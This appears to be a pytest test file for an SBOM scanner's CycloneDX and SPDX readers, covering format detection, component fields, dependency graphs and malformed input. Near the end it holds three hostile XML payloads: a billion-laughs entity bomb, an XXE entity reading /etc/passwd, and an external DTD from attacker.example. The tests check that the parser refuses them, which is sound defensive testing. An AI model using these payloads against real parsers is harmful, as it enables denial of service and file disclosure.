"""SBOM readers on documents built in the test: CycloneDX JSON and XML, detection, bad input."""

from __future__ import annotations

import codecs
import json
from typing import Any

import pytest

from services.scanner.domain.errors import (
    ForbiddenXml,
    MalformedDocument,
    UnknownFormat,
    UnsupportedSpecVersion,
)
from services.scanner.domain.model import Bom, Component, Hash, License
from services.scanner.domain.sbom import detect_format, parse_sbom
from services.scanner.domain.sbom.assemble import MAX_WARNINGS_PER_CODE


def cdx(components: list[dict[str, Any]], *, version: str = "1.5", **extra: Any) -> bytes:
    document: dict[str, Any] = {"bomFormat": "CycloneDX", "specVersion": version, "version": 1}
    document["components"] = components
    document.update(extra)
    return json.dumps(document, indent=2).encode()


def lib(name: str, version: str = "1.0.0", **fields: Any) -> dict[str, Any]:
    return {"type": "library", "name": name, "version": version, **fields}


def by_ref(bom: Bom) -> dict[str, Component]:
    return {c.ref: c for c in bom.components}


def codes(bom: Bom) -> list[str]:
    return [w.code for w in bom.warnings]


# --- detection -------------------------------------------------------------------------


def test_detects_each_format_even_with_bom_format_last() -> None:
    assert detect_format(b'{"components": [], "bomFormat": "CycloneDX"}') == "cyclonedx-json"
    assert detect_format(b'{"spdxVersion": "SPDX-2.3"}') == "spdx-json"
    assert (
        detect_format(b'<?xml version="1.0"?>\n<bom xmlns="http://cyclonedx.org/schema/bom/1.4"/>')
        == "cyclonedx-xml"
    )
    assert detect_format(b"# comment\nSPDXVersion: SPDX-2.2\n") == "spdx-tag-value"


def test_byte_order_marks_are_accepted() -> None:
    document = cdx([lib("a")]).decode()
    assert parse_sbom(codecs.BOM_UTF8 + document.encode()).components[0].name == "a"
    assert parse_sbom(document.encode("utf-16")).components[0].name == "a"


@pytest.mark.parametrize(
    ("data", "seen"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"PK\x03\x04rest", "zip archive"),
        (b"\x1f\x8b\x08\x00", "gzip"),
        (b"[1, 2]", "JSON array"),
        (b'{"name": "x", "packages": []}', "keys: name, packages"),
        (b'<?xml version="1.0"?><project xmlns="http://maven.apache.org/POM/4.0.0"/>', "<project>"),
        (b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>', "RDF/XML"),
        (b"django==2.2\nflask==1.0\n", "'django==2.2'"),
        (b'{"@context": "https://spdx.org/rdf/3.0.0/spdx-context.jsonld"}', "SPDX 3"),
    ],
)
def test_unknown_formats_name_what_was_seen(data: bytes, seen: str) -> None:
    with pytest.raises(UnknownFormat) as caught:
        parse_sbom(data)
    assert caught.value.code == "sbom_unknown_format"
    assert caught.value.status == 415
    assert seen in caught.value.detail


# --- CycloneDX JSON: fields ------------------------------------------------------------


@pytest.mark.parametrize("version", ["1.2", "1.3", "1.4", "1.5", "1.6"])
def test_every_supported_cyclonedx_version(version: str) -> None:
    bom = parse_sbom(cdx([lib("a", purl="pkg:npm/a@1.0.0")], version=version))
    assert (bom.format, bom.encoding, bom.spec_version) == ("cyclonedx", "json", version)
    assert bom.components[0].ecosystem == "npm"
    assert bom.warnings == ()


@pytest.mark.parametrize("version", ["1.0", "1.1", "2.0", "one"])
def test_unsupported_cyclonedx_versions(version: str) -> None:
    with pytest.raises(UnsupportedSpecVersion) as caught:
        parse_sbom(cdx([], version=version))
    assert caught.value.location == "$.specVersion"
    assert caught.value.code == "sbom_unsupported_version"


def test_newer_cyclonedx_is_read_with_a_warning() -> None:
    bom = parse_sbom(cdx([lib("a")], version="1.7"))
    assert codes(bom) == ["spec_version_newer"]


def test_component_fields() -> None:
    bom = parse_sbom(
        cdx(
            [
                lib(
                    "core",
                    "12.1.0",
                    group="@angular",
                    purl="pkg:npm/%40angular/core@12.1.0",
                    **{"bom-ref": "ng"},
                    hashes=[{"alg": "SHA-256", "content": "ab" * 32}],
                    licenses=[
                        {"license": {"id": "MIT"}},
                        {"license": {"name": "Custom Corp License"}},
                        {"expression": "Apache-2.0 OR GPL-2.0-only"},
                    ],
                ),
                {
                    "type": "framework",
                    "name": "jackson-databind",
                    "group": "com.fasterxml.jackson.core",
                    "version": "2.9.10",
                    "purl": "pkg:maven/com.fasterxml.jackson.core/jackson-databind@2.9.10?type=jar",
                },
            ]
        )
    )
    angular, jackson = bom.components
    assert angular == Component(
        ref="ng",
        name="core",
        version="12.1.0",
        purl="pkg:npm/%40angular/core@12.1.0",
        ecosystem="npm",
        package="@angular/core",
        group="@angular",
        hashes=(Hash("SHA-256", "ab" * 32),),
        licenses=(
            License(id="MIT"),
            License(name="Custom Corp License"),
            License(expression="Apache-2.0 OR GPL-2.0-only"),
        ),
        scope="required",
    )
    assert jackson.type == "framework"
    assert jackson.ecosystem == "Maven"
    assert jackson.package == "com.fasterxml.jackson.core:jackson-databind"
    assert jackson.ref == "#$.components[1]"  # no bom-ref: a synthetic, document-local one


def test_scopes_and_development_markers() -> None:
    bom = parse_sbom(
        cdx(
            [
                lib("plain"),
                lib("opt", scope="optional"),
                lib("excl", scope="excluded"),
                lib(
                    "npmdev", properties=[{"name": "cdx:npm:package:development", "value": "true"}]
                ),
                lib(
                    "npmprod",
                    properties=[{"name": "cdx:npm:package:development", "value": "false"}],
                ),
                lib(
                    "composerdev",
                    properties=[{"name": "cdx:composer:package:isDevRequirement", "value": "true"}],
                ),
                lib(
                    "poetrydev",
                    properties=[
                        {"name": "cdx:poetry:group", "value": "dev"},
                        {"name": "cdx:poetry:group", "value": "test"},
                    ],
                ),
                lib(
                    "poetrymain",
                    properties=[
                        {"name": "cdx:poetry:group", "value": "dev"},
                        {"name": "cdx:poetry:group", "value": "main"},
                    ],
                ),
                lib("odd", scope="sometimes"),
            ]
        )
    )
    scopes = {c.name: c.scope for c in bom.components}
    assert scopes == {
        "plain": "required",  # the spec: absent scope means required
        "opt": "optional",
        "excl": "excluded",
        "npmdev": "dev",
        "npmprod": "required",
        "composerdev": "dev",
        "poetrydev": "dev",
        "poetrymain": "required",
        "odd": "unknown",
    }
    assert codes(bom) == ["unknown_scope"]


def test_nested_components_are_flattened_in_document_order() -> None:
    bom = parse_sbom(
        cdx(
            [
                lib("outer", components=[lib("inner1", components=[lib("deep")]), lib("inner2")]),
                lib("after"),
            ],
            metadata={
                "component": {
                    "type": "application",
                    "name": "app",
                    "bom-ref": "app",
                    "components": [lib("bundled")],
                }
            },
        )
    )
    assert [c.name for c in bom.components] == [
        "bundled",
        "outer",
        "inner1",
        "deep",
        "inner2",
        "after",
    ]
    assert bom.metadata_component is not None and bom.metadata_component.name == "app"
    assert by_ref(bom)["#$.components[0].components[0].components[0]"].name == "deep"


# --- CycloneDX JSON: graph -------------------------------------------------------------


def graph_document(**metadata: Any) -> bytes:
    return cdx(
        [lib(n, **{"bom-ref": n}) for n in ("a", "b", "c", "d")],
        metadata={"component": {"type": "application", "name": "app", "bom-ref": "app"}},
        dependencies=[
            {"ref": "app", "dependsOn": ["a", "b"]},
            {"ref": "a", "dependsOn": ["c"]},
            {"ref": "c", "dependsOn": ["d", "a"]},
            {"ref": "d"},
        ],
    )


def test_direct_and_transitive_relative_to_the_subject() -> None:
    bom = parse_sbom(graph_document())
    assert {c.ref: c.direct for c in bom.components} == {
        "a": True,
        "b": True,
        "c": False,
        "d": False,
    }
    deps = {d.ref: d.depends_on for d in bom.dependencies}
    assert deps == {"app": ("a", "b"), "a": ("c",), "c": ("d", "a"), "d": ()}


def test_without_a_subject_the_top_of_the_graph_is_direct() -> None:
    bom = parse_sbom(
        cdx(
            [lib(n, **{"bom-ref": n}) for n in ("a", "b", "c")],
            dependencies=[{"ref": "a", "dependsOn": ["b"]}, {"ref": "c", "dependsOn": []}],
        )
    )
    assert {c.ref: c.direct for c in bom.components} == {"a": True, "b": False, "c": True}


def test_without_edges_direct_is_unknown() -> None:
    bom = parse_sbom(cdx([lib("a", **{"bom-ref": "a"})], dependencies=[{"ref": "a"}]))
    assert bom.components[0].direct is None


def test_edges_to_unknown_refs_are_dropped_with_a_warning() -> None:
    bom = parse_sbom(
        cdx(
            [lib("a", **{"bom-ref": "a"})],
            dependencies=[
                {"ref": "a", "dependsOn": ["ghost", "a"]},
                {"ref": "phantom", "dependsOn": ["a"]},
            ],
        )
    )
    assert bom.dependencies[0].depends_on == ()  # self edge and unknown child both gone
    assert codes(bom) == ["unknown_dependency_ref", "unknown_dependency_ref"]
    assert bom.warnings[0].location == "$.dependencies[0]"


# --- CycloneDX JSON: duplicates, purls, versions ---------------------------------------


def test_duplicate_bom_refs_keep_the_first() -> None:
    bom = parse_sbom(cdx([lib("a", "1", **{"bom-ref": "x"}), lib("b", "2", **{"bom-ref": "x"})]))
    assert [(c.name, c.version) for c in bom.components] == [("a", "1")]
    assert bom.warnings[0].code == "duplicate_component"
    assert bom.warnings[0].location == "$.components[1]"


def test_duplicate_purls_are_folded_and_edges_follow() -> None:
    bom = parse_sbom(
        cdx(
            [
                lib("lodash", "4.17.20", purl="pkg:npm/lodash@4.17.20", **{"bom-ref": "first"}),
                lib("lodash", "4.17.20", purl="pkg:npm/lodash@4.17.20", **{"bom-ref": "second"}),
                lib("user", **{"bom-ref": "user"}),
            ],
            dependencies=[
                {"ref": "user", "dependsOn": ["second"]},
                {"ref": "second", "dependsOn": []},
            ],
        )
    )
    assert [c.ref for c in bom.components] == ["first", "user"]
    assert {d.ref: d.depends_on for d in bom.dependencies} == {"user": ("first",), "first": ()}
    assert codes(bom) == ["duplicate_component"]
    assert "first" in bom.warnings[0].detail


def test_purls_differing_only_in_qualifier_order_are_duplicates() -> None:
    bom = parse_sbom(
        cdx(
            [
                lib("x", purl="pkg:maven/g/x@1?type=jar&classifier=sources"),
                lib("x", purl="pkg:maven/g/x@1?classifier=sources&type=jar"),
            ]
        )
    )
    assert len(bom.components) == 1


def test_the_subject_listed_again_as_a_component_is_dropped() -> None:
    bom = parse_sbom(
        cdx(
            [lib("app", purl="pkg:npm/app@1.0.0"), lib("dep")],
            metadata={
                "component": {"type": "application", "name": "app", "purl": "pkg:npm/app@1.0.0"}
            },
        )
    )
    assert [c.name for c in bom.components] == ["dep"]


def test_a_wrong_purl_keeps_the_component_without_an_ecosystem() -> None:
    bom = parse_sbom(
        cdx([lib("a", purl="npm/a@1.0.0"), lib("b", purl="pkg:/@1"), lib("c", purl="")])
    )
    assert [(c.name, c.purl, c.ecosystem) for c in bom.components] == [
        ("a", None, None),
        ("b", None, None),
        ("c", None, None),
    ]
    assert codes(bom) == ["invalid_purl", "invalid_purl"]
    assert bom.warnings[0].location == "$.components[0]"
    assert "npm/a@1.0.0" in bom.warnings[0].detail


def test_unknown_purl_types_have_no_ecosystem_and_no_warning() -> None:
    bom = parse_sbom(cdx([lib("zlib", purl="pkg:deb/debian/zlib1g@1.2.11")]))
    assert bom.components[0].ecosystem is None
    assert bom.components[0].package == "debian/zlib1g"
    assert bom.warnings == ()


@pytest.mark.parametrize(
    "version", ["💥.not-a-version", "9" * 500, "", "1.0.0-rc.1+build.5", " 2 "]
)
def test_absurd_versions_are_kept_as_strings(version: str) -> None:
    assert parse_sbom(cdx([lib("a", version)])).components[0].version == version


def test_warnings_are_capped_per_code() -> None:
    count = MAX_WARNINGS_PER_CODE + 50
    bom = parse_sbom(cdx([lib(f"p{i}", purl="bad") for i in range(count)]))
    assert len(bom.components) == count
    assert len(bom.warnings) == MAX_WARNINGS_PER_CODE + 1
    assert "50 more invalid_purl" in bom.warnings[-1].detail


# --- CycloneDX JSON: malformed ---------------------------------------------------------


def test_truncated_document_says_where_it_ends() -> None:
    data = cdx([lib("a"), lib("b")])
    with pytest.raises(MalformedDocument) as caught:
        parse_sbom(data[: len(data) // 2])
    assert caught.value.code == "sbom_malformed"
    assert "truncated" in caught.value.detail
    assert caught.value.location is not None and caught.value.location.startswith(
        "end of input, line "
    )


def test_syntax_error_gives_line_and_column() -> None:
    data = (
        b'{\n  "bomFormat": "CycloneDX",\n  "specVersion": "1.5",\n'
        b'  "components": [{"name": "a"} {"name": "b"}]\n}'
    )
    with pytest.raises(MalformedDocument) as caught:
        parse_sbom(data)
    assert caught.value.location == "line 4, column 32"
    assert caught.value.detail.startswith("CycloneDX JSON is not valid JSON")


def test_shape_error_gives_the_json_path() -> None:
    with pytest.raises(MalformedDocument) as caught:
        parse_sbom(cdx([lib("a"), {"type": "library", "name": 42}]))
    assert caught.value.location == "$.components[1].name"
    assert "does not match the schema" in caught.value.detail
    with pytest.raises(MalformedDocument) as caught:
        parse_sbom(cdx([lib("a", components=[{"type": "library"}])]))
    assert caught.value.location == "$.components[0].components[0]"
    assert "name" in caught.value.detail


def test_wrong_bom_format_value() -> None:
    with pytest.raises(MalformedDocument) as caught:
        parse_sbom(b'{"bomFormat": "CycloneDx-ish", "specVersion": "1.5"}')
    assert caught.value.location == "$.bomFormat"


def test_invalid_utf8_is_located() -> None:
    data = b'{"bomFormat": "CycloneDX", "specVersion": "1.5",\n"components": [{"name": "\xff"}]}'
    with pytest.raises(MalformedDocument) as caught:
        parse_sbom(data)
    assert caught.value.location == "line 2, column 26"


def test_a_50_megabyte_document_parses() -> None:
    component = lib(
        "package",
        "1.2.3",
        description="x" * 600,
        hashes=[{"alg": "SHA-512", "content": "f" * 128}],
        licenses=[{"license": {"id": "MIT"}}],
    )
    count = 60_000
    components = [
        {**component, "bom-ref": f"r{i}", "purl": f"pkg:pypi/package-{i}@1.2.3"}
        for i in range(count)
    ]
    data = cdx(components)
    assert len(data) > 50_000_000
    bom = parse_sbom(data)
    assert len(bom.components) == count
    assert bom.components[-1].package == f"package-{count - 1}"


# --- CycloneDX XML ---------------------------------------------------------------------

XML_DOCUMENT = """<?xml version="1.0" encoding="UTF-8"?>
<bom xmlns="http://cyclonedx.org/schema/bom/{version}" version="1">
  <metadata>
    <component type="application" bom-ref="app">
      <name>app</name>
      <version>1.0</version>
    </component>
  </metadata>
  <components>
    <component type="library" bom-ref="flask">
      <group></group>
      <name><![CDATA[Flask]]></name>
      <version>0.12.2</version>
      <scope>required</scope>
      <hashes><hash alg="SHA-256">{sha}</hash></hashes>
      <licenses>
        <license><id>BSD-3-Clause</id></license>
        <license><name>Some License</name></license>
        <expression>MIT OR Apache-2.0</expression>
      </licenses>
      <purl>pkg:pypi/flask@0.12.2</purl>
      <components>
        <component type="library" bom-ref="vendored">
          <name>vendored</name>
          <version>0.1</version>
          <properties><property name="cdx:npm:package:development">true</property></properties>
        </component>
      </components>
    </component>
    <component type="library" bom-ref="werkzeug">
      <name>werkzeug</name>
      <version>0.15.2</version>
      <purl>pkg:pypi/Werkzeug@0.15.2</purl>
    </component>
  </components>
  <dependencies>
    <dependency ref="app"><dependency ref="flask"/></dependency>
    <dependency ref="flask"><dependency ref="werkzeug"/></dependency>
  </dependencies>
</bom>
"""


def test_cyclonedx_xml_in_utf16_with_its_declaration() -> None:
    text = XML_DOCUMENT.format(version="1.5", sha="").replace(
        'encoding="UTF-8"', 'encoding="UTF-16"'
    )
    bom = parse_sbom(text.encode("utf-16"))
    assert [c.name for c in bom.components] == ["Flask", "vendored", "werkzeug"]


@pytest.mark.parametrize("version", ["1.2", "1.3", "1.4", "1.5", "1.6"])
def test_cyclonedx_xml(version: str) -> None:
    bom = parse_sbom(XML_DOCUMENT.format(version=version, sha="cd" * 32).encode())
    assert (bom.format, bom.encoding, bom.spec_version) == ("cyclonedx", "xml", version)
    assert bom.metadata_component is not None and bom.metadata_component.ref == "app"
    flask, vendored, werkzeug = bom.components
    assert flask == Component(
        ref="flask",
        name="Flask",
        version="0.12.2",
        purl="pkg:pypi/flask@0.12.2",
        ecosystem="PyPI",
        package="flask",
        hashes=(Hash("SHA-256", "cd" * 32),),
        licenses=(
            License(id="BSD-3-Clause"),
            License(name="Some License"),
            License(expression="MIT OR Apache-2.0"),
        ),
        scope="required",
        direct=True,
    )
    assert (vendored.scope, vendored.direct) == ("dev", False)
    assert (werkzeug.package, werkzeug.direct) == ("werkzeug", False)
    assert {d.ref: d.depends_on for d in bom.dependencies} == {
        "app": ("flask",),
        "flask": ("werkzeug",),
    }


def test_cyclonedx_xml_semantic_errors_name_the_element() -> None:
    data = XML_DOCUMENT.format(version="1.4", sha="").replace("<name>werkzeug</name>", "").encode()
    with pytest.raises(MalformedDocument) as caught:
        parse_sbom(data)
    assert caught.value.location == "/bom/components/component[2]"  # the one with no <name>


def test_cyclonedx_xml_not_well_formed() -> None:
    data = (
        XML_DOCUMENT.format(version="1.4", sha="")
        .replace("</components>\n  <dep", "\n  <dep")
        .encode()
    )
    with pytest.raises(MalformedDocument) as caught:
        parse_sbom(data)
    assert "not well-formed" in caught.value.detail
    assert caught.value.location is not None and caught.value.location.startswith("line ")


def test_cyclonedx_xml_truncated() -> None:
    data = XML_DOCUMENT.format(version="1.4", sha="").encode()
    with pytest.raises(MalformedDocument) as caught:
        parse_sbom(data[:700])
    assert caught.value.location is not None


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE bom [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<bom xmlns="http://cyclonedx.org/schema/bom/1.4"><components><component type="library">
<name>&lol9;</name></component></components></bom>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE bom [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<bom xmlns="http://cyclonedx.org/schema/bom/1.4"><components><component type="library">
<name>&secret;</name></component></components></bom>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE bom SYSTEM "http://attacker.example/evil.dtd">
<bom xmlns="http://cyclonedx.org/schema/bom/1.4"/>
"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE, EXTERNAL_DTD])
def test_doctype_and_entities_are_refused(data: bytes) -> None:
    with pytest.raises(ForbiddenXml) as caught:
        parse_sbom(data)
    assert caught.value.code == "sbom_xml_forbidden"
    assert caught.value.location == "line 2"


def test_undeclared_entity_is_malformed_not_expanded() -> None:
    data = b'<bom xmlns="http://cyclonedx.org/schema/bom/1.4"><components><component><name>&x;</name></component></components></bom>'
    with pytest.raises(MalformedDocument):
        parse_sbom(data)


def test_cyclonedx_xml_unsupported_version() -> None:
    with pytest.raises(UnsupportedSpecVersion):
        parse_sbom(b'<bom xmlns="http://cyclonedx.org/schema/bom/1.1" version="1"/>')
